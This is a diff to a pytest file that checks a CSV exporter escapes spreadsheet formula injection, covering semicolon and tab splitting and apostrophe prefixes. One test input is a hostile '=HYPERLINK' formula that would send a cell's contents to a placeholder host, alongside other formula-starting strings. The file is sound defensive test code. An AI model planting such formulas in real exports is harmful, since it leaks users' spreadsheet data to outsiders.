@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import pytest
 
@@ -42,6 +43,13 @@ IDS = [
     "\ttab",
     "＝full",
     "日本",
+    "a;=1+1",
+    "a; ''@x;-'y",
+    "\n;+\t=2",
+    "MAR1",
+    "sept 2",
+    "$5",
+    "(3)",
 ]
 ROWS = Examples(Example(id, prompt="q", completion=f" a{i}") for i, id in enumerate(IDS))
 
@@ -65,6 +73,26 @@ def test_every_id_comes_back_and_no_cell_is_a_formula():
         assert not any(cell.startswith(tuple("=+-@\t＝")) for cell in line.values())
     assert escaped("007") == "'007"
     assert escaped("plain 7") == "plain 7"
+
+
+def test_no_cell_is_a_formula_where_lines_are_split_at_semicolons_or_tabs():
+    """A spreadsheet of such a system takes the quotes within a cell for text, and splits there."""
+    hostile = 'see "this";=HYPERLINK("http://x.example/?"&A1); \t@SUM(1);-2'
+    findings = [Finding(i, "label", 1.0, f"{id};=1+1", other=i) for i, id in enumerate(IDS)]
+    text = listed(findings, [hostile] * len(ROWS))
+    assert text.count("HYPERLINK") == len(ROWS)
+    cells = [cell.strip(' "') for cell in re.split(r"[;\t]", text)]
+    assert [cell for cell in cells if cell.startswith(tuple("=+-@＝"))] == []
+
+
+@pytest.mark.parametrize("text", ["MAR1", "sep-2", "$5", "(3)", "true", "€1"])
+def test_what_a_spreadsheet_would_change_has_an_apostrophe(text):
+    assert escaped(text) == f"'{text}"
+
+
+def test_words_are_left_as_they_are():
+    for text in ("marble 7", "decade", "mayor", "a;b", "a; b-c", "(see)"):
+        assert escaped(text) == text
 
 
 def test_negative_numbers_are_numbers():
